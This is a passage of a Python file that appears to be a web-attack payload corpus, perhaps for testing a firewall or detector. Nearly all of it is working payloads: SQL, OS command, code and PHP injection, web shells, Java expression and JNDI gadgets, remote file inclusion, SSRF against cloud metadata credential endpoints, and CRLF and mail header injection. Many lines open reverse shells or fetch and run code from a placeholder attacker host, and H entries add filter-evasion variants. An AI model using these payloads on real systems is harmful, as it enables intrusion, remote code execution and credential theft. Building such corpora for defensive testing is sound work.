    A("'||DBMS_PIPE.RECEIVE_MESSAGE('x',5)||'"),
    A(
        "' AND (SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://§A/o\">%p;]>'),'/l') FROM dual) IS NOT NULL--"
    ),
    A("' UNION SELECT sql,NULL FROM sqlite_master--"),
    A("' AND 1=like('ABCDEFG',upper(hex(randomblob(300000000))))--"),
    A("'; EXEC xp_cmdshell 'whoami'--"),
    A(r"'; EXEC master..xp_dirtree '\\§A\x'--"),
    A(r"' AND LOAD_FILE(CONCAT('\\\\',(SELECT authentication_string FROM mysql.user LIMIT 1),'.§A\\a'))-- -"),
    H("1'/**/OR/**/'1'='1"),
    H("1'\tOR\t1=1-- -"),
    H("1 UnIoN SeLeCt 1,user(),3-- -"),
    H("1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,group_concat(table_name) FROM information_schema.tables-- -"),
    H("1\x0bUNION\x0bSELECT\x0b1,2,3-- -"),
    H("' UNION SELECT 1,table_name FROM information_schema.tables WHERE table_schema=0x6170705f6462-- -"),
    H("' UNION SELECT CHAR(117,115,101,114),password FROM users-- -"),
    A("1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64"),
    H("' OR '{\"a\":1}'::jsonb @> '{\"a\":1}'::jsonb-- -"),
    H("' OR JSON_EXTRACT('{\"r\":1}','$.r')=1-- -"),
    H("' OR json_extract('{\"r\":1}','$.r')=1--"),
    A("'||(SELECT current_database())::int||'"),
    H("1;SELECT $$x$$||pg_sleep(5)--"),
    A("1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
    H("(SELECT*FROM(SELECT(SLEEP(7)))x)"),
    A("1' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user()),0x7e),1)-- -"),
    A("-1' UNION ALL SELECT table_name,column_name FROM information_schema.columns-- -"),
    H("1 AND 3257=DBMS_PIPE.RECEIVE_MESSAGE(CHR(97)||CHR(98),5)"),
    A("';COPY (SELECT '') TO PROGRAM 'nslookup §A'--"),
    A(r"';DECLARE @q varchar(99);SET @q='\\§A\s';EXEC master.dbo.xp_dirtree @q;--"),
    H("'or(1)='1"),
    H("1\nUNION\nSELECT 1,user(),3-- -"),
    A("' AND 1=CONVERT(int,(SELECT DB_NAME()))--"),
    H("1' oR '2'>'1"),
    H(
        "1 AND 1=(SELECT 1 FROM pg_user WHERE usename=CHR(112)||CHR(111)||CHR(115)||CHR(116)||CHR(103)||CHR(114)||CHR(101)||CHR(115) AND usesuper)"
    ),
    A("'; SELECT CASE WHEN (SELECT COUNT(*) FROM users)>0 THEN pg_sleep(4) ELSE pg_sleep(0) END--"),
    A("' AND 1=(CASE WHEN substr(sqlite_version(),1,1)='3' THEN 1 ELSE load_extension(1) END)--"),
    A("1 UNION SELECT NULL,LOAD_FILE('/etc/passwd'),NULL-- -"),
    A("x' AND ORD(MID(user(),1,1))>100-- -"),
    A("' AND 1=(SELECT CASE WHEN 1=1 THEN TO_CHAR(1/0) ELSE NULL END FROM dual)--"),
    A("' UNION SELECT '<?php system($_GET[c]);?>',2 INTO OUTFILE '/var/www/html/c.php'-- -"),
    A("price,(CASE WHEN (SELECT SUBSTR(password,1,1) FROM users WHERE id=1)='a' THEN price ELSE name END)"),
    A("id DESC; DROP TABLE sessions--"),
    A("10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    A("5 AND (SELECT 1 FROM (SELECT SLEEP(5))a)"),
    A("Gifts' AND '1'='1"),
    A("%' AND 1=0 UNION SELECT id,email,password_hash FROM accounts-- -"),
    A("acme' AND SUBSTRING(@@version,1,1)='8"),
    A("1,2,3) OR (1=1"),
    A("x'),('eve','eve@§A','x',1)-- -"),
    A("x', role='admin' WHERE id=7-- -"),
    A("1 ORDER BY 7-- -"),
    A("' GROUP BY users.id HAVING 1=1--"),
    A("1; INSERT INTO users(login,pw,is_admin) VALUES('svc_b','x',1)--"),
    A("' UNION SELECT NULL,username||':'||password FROM users--"),
    A("1' AND EXISTS(SELECT * FROM users WHERE username='admin' AND password LIKE 'a%')-- -"),
    A("'+(SELECT TOP 1 password FROM users)+'"),
    H("admin' AND '1'LIKE'1"),
    A("127.0.0.1' AND SLEEP(5) AND '1'='1", only=HDR_ONLY | {"cookie", "query"}),
    A("Mozilla/5.0' AND (SELECT 1 FROM (SELECT SLEEP(6))x) AND '1'='1", only=HDR_ONLY),
]

# ---- OS command injection -------------------------------------------------
CMDI = [
    A("; id"),
    A("| whoami"),
    A("|| cat /etc/passwd"),
    A("&& uname -a"),
    A("\nid"),
    A("`id`"),
    A("$(whoami)"),
    H(";cat${IFS}/etc/passwd"),
    H(";{cat,/etc/passwd}"),
    H(";c'a't /e\"t\"c/pa''sswd"),
    H(";/???/c?t /???/p?ss??"),
    H(";a=i;b=d;$a$b"),
    H(";cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    H(r";w\ho\am\i"),
    A("127.0.0.1; ping -c 3 §A"),
    A("8.8.8.8 && curl -s http://§A/i.sh | sh"),
    A("x; nslookup $(whoami).§A"),
    A(";wget -qO- http://§IP/p|bash"),
    A("| nc §IP 4444 -e /bin/sh"),
    A("; bash -i >& /dev/tcp/§IP/443 0>&1"),
    A(
        '; python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("§IP",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\''
    ),
    H(";echo aWQ=|base64 -d|sh"),  # aWQ= -> id
    A("& whoami"),
    A(r"| type C:\Windows\win.ini"),
    A(r'& cmd /c "dir C:\Users"'),
    A("& net user"),
    A(";powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://§A/a.ps1')\""),
    H("& powershell -NoP -enc " + b64utf16("whoami")),
    A(r"| certutil -urlcache -split -f http://§A/u.exe %TEMP%\u.exe"),
    H("& ^w^h^o^a^m^i"),
    H("& c^md /c who^ami"),
    A("() { :; }; /bin/bash -c 'id'"),
    A("() { :;}; echo; /usr/bin/curl http://§A/$(hostname)"),
    A("$(sleep 5)"),
    A("`sleep 5`"),
    A("| sleep 5 #"),
    H(";sleep${IFS}5"),
    A("|| ping -n 6 127.0.0.1"),
    A("-oProxyCommand=sh -c 'curl http://§A/$(id -u)'"),
    A("--upload-pack=touch /tmp/pwned"),
    A("--checkpoint=1 --checkpoint-action=exec=sh shell.sh"),
    A("-o /var/www/html/sh.php http://§A/sh.txt"),
    H("$(</etc/passwd)"),
    A(";tac /etc/shadow"),
    H(r";$'\x69\x64'"),
    H(r";l\s -la /"),
    H(r";X=$'cat\x20/etc/passwd'&&$X"),
    H(";cat</etc/passwd"),
    H(";{echo,aWQ=}|{base64,-d}|bash"),
    H(";$(rev<<<'imaohw')"),
    A("image.png;id"),
    A("a.jpg$(id)"),
    A('report.pdf";curl http://§A/`whoami`;"'),
    A("https://github.com/acme/repo.git; id"),
    A("100x100;id"),
    A("prod$(id)"),
    A("8.8.8.8|id"),
    A("brightkettle.com\nid"),
    A("|timeout /t 5"),
    A("&ping -n 10 §A&"),
    A(";pwd;ls -la;"),
    A("';id;'"),
    A('"; id; echo "'),
    H("$(curl${IFS}-s${IFS}§A/x|sh)"),
    H(';p""ing -c1 §A'),
    H(";/bin/s?? -c id"),
    H(";${PATH:0:1}bin${PATH:0:1}id"),
    A(r"| powershell Get-Content C:\inetpub\wwwroot\web.config"),
    A("; php -r 'system(\"id\");'"),
]

# ---- generic code injection: PHP / Node.js / Python / Ruby / Perl / Java --
PICKLE0 = "cos\nsystem\n(S'id'\ntR."
CODE = [
    A("phpinfo();"),
    A("system('id');"),
    H("eval(base64_decode('%s'));" % b64('system("id");')),
    A("array_map('system',array('id'))"),
    A("call_user_func('passthru','uname -a')"),
    A("call_user_func_array('system',array('cat /etc/passwd'))"),
    A("array_filter(['id'],'system')"),
    A("preg_replace('/.*/e','system(\"id\")','x')"),
    A("0;}system('id');/*"),
    A("assert(\"system('id')\")"),
    H("$f='sys'.'tem';$f('id');"),
    H("('sys'.'tem')('whoami');"),
    H('"\\x73ystem"("id");'),
    A("echo fread(popen('id','r'),4096);"),
    A("passthru('ls -la /var/www');"),
    A("echo shell_exec('id');"),
    A("exec('id',$o);print_r($o);"),
    A("file_put_contents('x.php','<?php system($_GET[0]);');"),
    A("${system('id')}"),
    A("\".system('id').\""),
    A("';system('id');//"),
    A("1;phpinfo();"),
    A("require('child_process').execSync('id').toString()"),
    A("process.mainModule.require('child_process').exec('curl http://§A/?h=$(hostname)')"),
    A("global.process.mainModule.constructor._load('child_process').execSync('id')"),
    A("this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    H("eval(Buffer.from('%s','base64').toString())" % b64("require('child_process').execSync('id')")),
    A("new Function('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    A("'+require('child_process').execSync('id')+'"),
    A('";process.kill(process.pid);//'),
    H("require('child_process')['ex'+'ecSync']('id')"),
    A("require('fs').readdirSync('/').join()"),
    A("__import__('os').system('id')"),
    A("__import__('os').popen('id').read()"),
    A("eval(compile('import os;os.system(\"id\")','x','exec'))"),
    A("exec(\"import subprocess;subprocess.call(['id'])\")"),
    H("getattr(__import__('o'+'s'),'sys'+'tem')('id')"),
    H(
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')"
    ),
    H("__builtins__.__dict__['__imp'+'ort__']('os').system('id')"),
    A("open('/etc/passwd').read()"),
    A("__import__('time').sleep(5) or 1"),
    A(PICKLE0, no={"xml"}),
    H(b64(PICKLE0), only={"cookie", "header", "json", "form"}),  # base64 of a protocol-0 pickle calling os.system('id')
    A("puts `id`"),
    A("%x(id)"),
    A("Kernel.exec('id')"),
    A("Kernel.system('cat /etc/passwd')"),
    A("IO.popen('id').read"),
    H("Kernel.send(:`, 'id')"),
    H("open('|id').read"),
    A("#{%x(id)}"),
    A("instance_eval('`uname -a`')"),
    H("Object.const_get(:Kernel).public_send(:system,'id')"),
    A('system("id");'),
    A('exec "/bin/sh";'),
    A('open(F,"id|");print <F>;'),
    H("print qx{id};"),
    A("eval \"system('id')\";"),
    A('Runtime.getRuntime().exec("id")'),
    A('new ProcessBuilder("id").start()'),
    A('"id".execute().text'),
    A("import os; os.system('id')"),
]

# ---- PHP injection: wrappers, tags, variable functions, superglobals, POP --
PHP_SHELL_B64 = "<?php system($_GET['cmd']);?>"
PHPI = [
    A("php://filter/convert.base64-encode/resource=index.php"),
    A("php://filter/read=string.rot13/resource=config.php"),
    H("php://filter/convert.iconv.UTF-8.UTF-16LE|convert.base64-encode/resource=/etc/passwd"),
    A("php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/.env"),
    A("php://input", only={"query"}, qbody="<?php system('id'); ?>"),
    A("data://text/plain;base64," + b64(PHP_SHELL_B64)),
    A("data:text/plain,<?php phpinfo();?>"),
    A("expect://id"),
    A("expect://ls -la /var/www"),
    A("phar://uploads/avatar_4411.jpg/x.txt"),
    A("phar:///var/www/app/storage/tmp/5f1a9c.gif"),
    A("zip://uploads/invoice.zip#shell.php"),
    H("pHp://FilTer/convert.base64-encode/resource=../app/config/parameters.php"),
    A("php://filter/resource=http://§A/s.txt"),
    A("<?php system($_GET['c']); ?>"),
    H("<?=`$_GET[0]`?>"),
    A("<?php echo shell_exec($_REQUEST['x']); ?>"),
    A("<? passthru($_POST['cmd']); ?>"),
    H('<script language="php">system("id");</script>'),
    A("<?php @eval($_POST['k']);?>"),
    A("<?=system($_COOKIE['c'])?>"),
    H("<?php $_GET['a']($_GET['b']); ?>"),
    H("${'_G'.'ET'}[0](${'_G'.'ET'}[1]);"),
    H("$a='as'.'sert';$a($_POST['x']);"),
    H("<?php $c=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$c('id');?>"),
    H("<?PhP SySteM('id'); ?>"),
    A("<?php echo `$_GET[c]`; ?>"),
    A("<?php include $_GET['p']; ?>"),
    H("GIF89a;<?php system($_GET['c']); ?>", mp=("content", "avatar.gif.php", "image/gif")),
    A(
        "AddType application/x-httpd-php .jpg",
        mp=("content", ".htaccess", "text/plain"),
        no={"header", "query_key", "json_key"},
    ),
    A(
        "auto_prepend_file=/var/www/html/uploads/a.jpg",
        mp=("content", ".user.ini", "text/plain"),
        no={"query_key", "json_key"},
    ),
    A("_SERVER[DOCUMENT_ROOT]", only={"query_key"}, qkval="http://§A/"),
    A("GLOBALS[config][include_path]", only={"query_key"}, qkval="http://§A/inc/"),
    A("_SESSION[is_admin]", only={"query_key"}, qkval="1"),
    A(
        "-d allow_url_include=1 -d auto_prepend_file=php://input",
        only={"query_key"},
        noval=True,
        qbody="<?php echo shell_exec('id'); ?>",
    ),
    RAW(
        "%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input",
        only={"query_key"},
        noval=True,
        qbody="<?php echo shell_exec('whoami'); ?>",
    ),
    A(
        php_obj(
            "DebugLogger", [("logfile", php_s("/var/www/html/x.php")), ("buffer", php_s("<?php system($_GET[c]); ?>"))]
        )
    ),
    A(php_obj("ImageProcessor", [("convertCmd", php_s("id > /tmp/o; true"))])),
    A(
        php_obj(
            "App\\Cache\\FileStore", [("path", php_s("/var/www/html/public/c.php")), ("data", php_s("<?=`$_GET[0]`?>"))]
        )
    ),
    A('a:2:{s:8:"username";s:5:"admin";s:8:"password";b:1;}'),
    H(
        php_obj(
            "DebugLogger",
            [("logfile", php_s("/var/www/html/l.php")), ("buffer", php_s("<?php passthru($_GET[x]); ?>"))],
        ).replace("O:11:", "O:+11:", 1)
    ),
    # base64 of O:13:"TemplateCache" writing a web shell; the app base64-decodes then unserializes
    H(
        b64(
            php_obj(
                "TemplateCache",
                [("file", php_s("../../public/s.php")), ("tpl", php_s("<?php passthru($_GET['x']); ?>"))],
            )
        ),
        only={"cookie", "header", "json", "form", "query"},
    ),
    A(
        "a:1:{i:0;"
        + php_obj(
            "Session",
            [("handler", php_obj("Mailer", [("sendmail", php_s("/usr/sbin/sendmail -X/var/www/html/m.php"))]))],
        )
        + "}"
    ),
    A("<?php file_put_contents('/var/www/html/.x.php', base64_decode($_POST['d'])); ?>"),
    A("<?php $x=$_SERVER['HTTP_X_CMD'];echo `$x`; ?>"),
    A("<?php echo file_get_contents('/etc/passwd'); ?>"),
    A(
        "<?php\r\nif(isset($_REQUEST['c'])){echo '<pre>'.shell_exec($_REQUEST['c']).'</pre>';}\r\n?>",
        mp=("content", "thumbnail.phtml", "application/octet-stream"),
    ),
    A("<?php array_map('system', [$_GET['c']]); ?>"),
]

# ---- Java: OGNL / SpEL / EL / MVEL / JEXL / Groovy / polymorphic JSON ------
JAVA = [
    A("%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    A("${#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec('id')}"),
    A('%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{"whoami"})).start()}'),
    A(
        "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(@java.lang.Runtime@getRuntime().exec('touch /tmp/s2'))}"
    ),
    A(
        '${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Out",#a))}'
    ),
    A("T(java.lang.Runtime).getRuntime().exec('id')"),
    A("#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    A('${T(java.lang.Runtime).getRuntime().exec("id")}'),
    A("new java.lang.ProcessBuilder({'id'}).start()"),
    A("T(java.lang.System).getenv()"),
    A(
        'T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec("id").getInputStream(),T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes().getResponse().getOutputStream())'
    ),
    H("T(java.lang.Class).forName('java.lang.Run'+'time').getMethod('getRuntime').invoke(null).exec('id')"),
    H(
        "T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100)))"
    ),
    A('T(java.lang.Runtime).getRuntime().exec("touch /tmp/scf")'),
    A(
        '#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{"id"}).getInputStream()))}'
    ),
    A("${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    A(
        '${"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval("java.lang.Runtime.getRuntime().exec(\'id\')")}'
    ),
    A('#{session.setAttribute("rt","".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null))}'),
    A("${pageContext.request.getSession().getServletContext().getRealPath('/')}"),
    A("@{Runtime.getRuntime().exec('id')}"),
    A('new java.lang.ProcessBuilder("id").start();'),
    A("''.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('id')"),
    A("['sh','-c','id'].execute()"),
    A('@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec("id")})\ndef x', no={"header"}),
    A(["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://§A:1389/Exploit", "autoCommit": True}]),
    A({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://§A:1099/Obj", "autoCommit": True}),
    A(
        {
            "a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
            "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://§A/x", "autoCommit": True},
        }
    ),
    A({"@class": "org.apache.xbean.propertyeditor.JndiConverter", "asText": "ldap://§A/x"}),
    A(
        '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>',
        doc=True,
    ),
    A(
        '<?xml version="1.0" encoding="UTF-8"?><java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void><void index="1"><string>-c</string></void><void index="2"><string>id</string></void></array><void method="start"/></object></java>',
        doc=True,
    ),
    A('!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://§A/y.jar"]]]]'),
    A(
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
        only={"query_key", "json_key"},
        qkval='%{x}i<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    ),
    A(
        "class.module.classLoader.resources.context.parent.pipeline.first.directory",
        only={"query_key"},
        qkval="webapps/ROOT",
    ),
    A("class.classLoader.URLs[0]", only={"query_key"}, qkval="jar:http://§A/spring-exploit.jar!/"),
    A("(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))", only={"query_key", "json_key"}, qkval="1"),
    A(
        '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
        mp=("content", "status.jsp", "application/octet-stream"),
    ),
    A(
        '<%@ page import="java.io.*" %><% Process p=Runtime.getRuntime().exec(request.getParameter("cmd")); out.print(new BufferedReader(new InputStreamReader(p.getInputStream())).readLine()); %>',
        mp=("content", "report.jsp", "text/plain"),
    ),
    H('Class.forName("java.la"+"ng.Runtime").getMethod("getRuntime").invoke(null).exec("id")'),
    A("jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://§A/x.sql'"),
    A("${T(java.lang.Thread).sleep(5000)}"),
    A("T(java.nio.file.Files).readAllLines(T(java.nio.file.Paths).get('/etc/passwd'))"),
    H("#{T(java.lang.Runtime).getRuntime().exec('bash -c {echo,aWQ=}|{base64,-d}|bash')}"),
    A("${applicationScope}"),
    A(
        "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].getWriter().println(@java.lang.System@getProperty('user.dir'))}"
    ),
    A(
        'new javax.script.ScriptEngineManager().getEngineByName("nashorn").eval("java.lang.Runtime.getRuntime().exec(\'id\')")'
    ),
    H(r"%{(\u0023rt=@java.lang.Runtime@getRuntime()).(\u0023rt.exec('id'))}"),
    H("${''['class'].forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    H("T(java.lang.Runtime).getRuntime().exec(new String(T(java.util.Base64).getDecoder().decode('aWQ=')))"),
    H("T (java.lang.Runtime).getRuntime().exec('id')"),
    H("#{T(java.lang.Runtime).getRuntime().exec('i'+'d')}"),
    H('${"".getClass().forName("java.lang.".concat("Runtime")).getMethod("getRuntime").invoke(null).exec("id")}'),
    H("%{(#x=@java.lang.Class@forName('java.lang.Run'+'time')).(#x.getMethod('getRuntime').invoke(null).exec('id'))}"),
    H("T(java.lang.Runtime).getRuntime().exec(T(java.lang.String).valueOf(new char[]{105,100}))"),
]

# ---- Remote file inclusion ------------------------------------------------
RFI = [
    A("http://§A/shell.txt?"),
    A("http://§A/s.txt\x00"),
    A("https://§A/r57.txt?"),
    A("http://§IP/x.php?cmd=id&"),
    A("ftp://anonymous:anon@§A/pub/c.php"),
    A(r"\\§A\share\shell.php"),
    A(r"\\§IP\pub\x.php"),
    A("smb://§A/public/inc.txt"),
    A("data:text/plain;base64," + b64("<?php phpinfo();?>")),
    A("data://text/plain,<?php system('id')?>"),
    H("hTTp://§A/c.txt?"),
    H("http://0xcb007105/x.txt?"),
    H("http://3405803781/i.txt?"),
    RAW("http%253A%252F%252F§A%252Fshell.txt%253F"),
    A("https://raw.githubusercontent.com/x0rz-dev/tools/main/s.php?"),
    A("https://pastebin.com/raw/8sJ2kD9q?"),
    A("http://§A/evil.vm"),
    A("http://§A/shell.txt#"),
    A("http://§A:8080/backdoor.txt?.php"),
    H("http://localhost@§A/x.txt?"),
    A("http://§A/shell"),
    A("ftp://§IP:21/incl.txt\x00"),
    A("https://§A/payload.txt?lang="),
    A("//§A/inc/config.php"),
    A("http://§A/phpshell.txt?/../index"),
    A("https://§A/wp.txt??"),
    A("http://§A/t.jsp"),
    H("HtTpS://§A/x.txt?"),
    A("ftp://§A/shell.txt?"),
    A("http://§A/templates/header.tpl?"),
    A("http://§A/lang/en.txt?x="),
    A("https://§A/cmd.txt?&"),
    A("http://§IP:8000/webshell.php.txt?"),
    H("http:\\\\§A\\s.txt?"),
    A("http://§A/shell.txt?include="),
    A(r"\\§A@SSL\DavWWWRoot\x.php"),
    A("http://§A/x?.txt"),
    A("https://gist.githubusercontent.com/anon-x/3c1d/raw/inc.php?"),
    H("http://§A/%2e%2e/shell.txt?"),
    A("http://§A/plugin.zip", no={"header"}),
]

# ---- SSRF -----------------------------------------------------------------
SSRF = [
    A("http://127.0.0.1:8080/admin"),
    A("http://localhost:2375/containers/json"),
    A("http://[::1]/server-status"),
    A("http://[::]:80/"),
    H("http://0/"),
    H("http://127.1/admin"),
    H("http://2130706433/"),
    H("http://017700000001/"),
    H("http://0x7f000001/"),
    H("http://0x7f.0.0.1/"),
    H("http://[::ffff:127.0.0.1]/"),
    H("http://[::ffff:7f00:1]/internal/health"),
    H("http://[0:0:0:0:0:ffff:127.0.0.1]:6379/"),
    A("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    A("http://169.254.169.254/latest/user-data"),
    A("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    A("http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    A("http://100.100.100.200/latest/meta-data/"),
    A("http://169.254.170.2/v2/credentials/"),
    A("http://[fd00:ec2::254]/latest/meta-data/"),
    H("http://169.254.169.254.nip.io/latest/meta-data/"),
    H("http://127.0.0.1.nip.io:8080/"),
    H("http://7f000001.a9fea9fe.rbndr.us/"),
    A(
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0Ax%0D%0A%2428%0D%0A%0A%0A%2A/1 * * * * id%0A%0A%0A%0D%0A"
    ),
    A(
        "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cops%40§T%3E%0D%0ARCPT%20TO%3A%3Cvictim%40§A%3E%0D%0ADATA%0D%0AHi%0D%0A.%0D%0AQUIT%0D%0A"
    ),
    A("dict://127.0.0.1:11211/stats"),
    A("dict://localhost:6379/info"),
    A("file:///etc/passwd"),
    A("file:///proc/self/environ"),
    A("file://localhost/c:/windows/win.ini"),
    A("sftp://§A:11111/"),
    H("http://app.§T@127.0.0.1/"),
    H("http://127.0.0.1#@app.§T/"),
    H("http://127.0.0.1:80\\@app.§T/"),
    H("http://app.§T.127.0.0.1.nip.io/"),
    H("http://①②⑦.⓪.⓪.①/"),
    A("http://0.0.0.0:22/"),
    H("http://[0:0:0:0:0:0:0:1]/"),
    A("http://127.127.127.127/"),
    A("http://10.0.0.1/"),
    A("http://192.168.1.1/cgi-bin/luci"),
    A("https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    A("http://consul.service.consul:8500/v1/kv/?recurse"),
    A("http://127.0.0.1:9200/_cat/indices"),
    A("jar:http://§A/x.jar!/"),
    A("netdoc:///etc/passwd"),
    A("http://metadata/computeMetadata/v1/?recursive=true"),
    A("https://§A/redirect?to=http://169.254.169.254/latest/meta-data/"),
    H("http://0251.0376.0251.0376/latest/meta-data/"),
    H("http://2852039166/latest/meta-data/"),
    H("http://0xa9fea9fe/"),
    H("http://169.254.43518/latest/meta-data/"),
    H("http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    H("http://0x7f.1/"),
    H("http://127.000.000.001/"),
    A("169.254.169.254", only={"header"}),
    A("localhost:8080", only={"header"}),
]

# ---- CRLF / header injection / response splitting / log forging ----------
CRLF = [
    A("/\r\nSet-Cookie: sessionid=attacker123; Path=/"),
    A("en\r\nSet-Cookie: admin=1"),
    A("x\r\nLocation: https://§A/phish"),
    A("x\r\n\r\n<script>alert(document.domain)</script>"),
    A(
        "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<script>alert(1)</script>"
    ),
    A("/home\r\nX-XSS-Protection: 0"),
    RAW("%250d%250aSet-Cookie:%2520x=1"),
    RAW("%250D%250ALocation:%2520https://§A/"),
    H("/嘊嘍Set-Cookie: crlf=injected"),
    H("/dashboard\rSet-Cookie: sid=fixated"),
    H("/dashboard\nSet-Cookie: sid=fixated2"),
    A("admin\n2026-12-07 10:22:01 INFO login succeeded for user=root from 10.0.0.5"),
    A("GET / HTTP/1.1\r\nHost: internal-api\r\n\r\nGET /admin/users HTTP/1.1\r\nHost: internal-api"),
    A("/\r\nSet-Cookie: crlf=1"),
    A("report.csv\r\nContent-Type: text/html"),
    A("https://§T\r\nAccess-Control-Allow-Origin: https://§A\r\nAccess-Control-Allow-Credentials: true"),
    A("/\r\nContent-Security-Policy: script-src *"),
    A("/\r\nRefresh: 0; url=https://§A/"),
    A("/\r\nLink: <https://§A/x.css>; rel=stylesheet"),
    A("x\r\nContent-Type: text/html\r\n\r\n<svg onload=alert(1)>"),
    A("fr\r\n\r\n<html><body>Session expired, <a href=https://§A/login>log in again</a></body></html>"),
    A("https://§T/cb\r\nSet-Cookie: oauth_state=known; Domain=.§T"),
    A("user=guest\r\nX-Forwarded-For: 127.0.0.1"),
    A("x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nX: "),
    A("2026-12-07T09:00:00Z\n2026-12-07T09:00:01Z ERROR payment gateway key rotated, new key=§A"),
    A("de\r\nCache-Control: public, max-age=31536000"),
    H("/\u560d\u560aLocation: https://§A/"),
    A("app.§T%0d%0aSet-Cookie: sid=attacker", only=HDR_ONLY),
    A("https%0d%0aLocation: https://§A/", only=HDR_ONLY),
    A("/account%0D%0AX-Injected:%20yes", only=HDR_ONLY),
    A("en%0aSet-Cookie:lang=xx%3Cscript%3E", only=HDR_ONLY),
    A('/\r\n\r\n{"admin":true}'),
    A("next\r\n X-Folded: yes"),
    A('/logout\r\nClear-Site-Data: "*"'),
    A('ok\r\nWWW-Authenticate: Basic realm="Please re-enter your password"'),
    A("\r\nSet-Cookie: __Host-sess=evil; Path=/; Secure"),
    A("x\u000d\u000aSet-Cookie: u=1"),
    A("/redirect\r\nLocation: javascript:alert(1)"),
    A("info\r\nINFO 2026-12-07 audit: role=admin granted to user=eve"),
    A("id=7\r\nX-Original-URL: /admin"),
    H("/\n\rSet-Cookie: order=reversed"),
    H("en\r\nsEt-cOoKiE: mixed=case"),
    H("/\r\n\tSet-Cookie: tabbed=1"),
]

# ---- mail / SMTP / IMAP header injection ---------------------------------
MAIL = [
    A("attacker@§A\r\nBcc: victim1@corpmail.net,victim2@corpmail.net"),
    A("jane@§T\nCc: list@§A"),
    A("Question about invoice\r\nBcc: spam-target@§A"),
    A("x@y.com\nBcc: everyone@§T"),
    A('support request\r\nContent-Type: text/html\r\n\r\n<a href="https://§A/login">Reset your password</a>'),
    A("a@b.co\r\nSubject: Your invoice is overdue\r\nX-Priority: 1"),
    A("victim@corpmail.net>\r\nRCPT TO:<spam@§A"),
    A(
        "x@y.io\r\n.\r\nMAIL FROM:<ceo@§T>\r\nRCPT TO:<cfo@§T>\r\nDATA\r\nSubject: Wire transfer\r\n\r\nPlease pay today.\r\n.\r\n"
    ),
    A('"attacker\\" -oQ/tmp/ -X/var/www/html/log.php some"@§A'),
    A("-OQueueDirectory=/tmp -X/var/www/html/shell.php"),
    A("nobody@§A -be ${run{/usr/bin/id}}"),
    A("INBOX\r\nA002 DELETE Sent"),
    A('INBOX"\r\nA003 LIST "" "*'),
    H("=?x?q?victim=40corpmail.net=3e=00?=foo@§A"),
    A("Alice\nFrom: security@§T"),
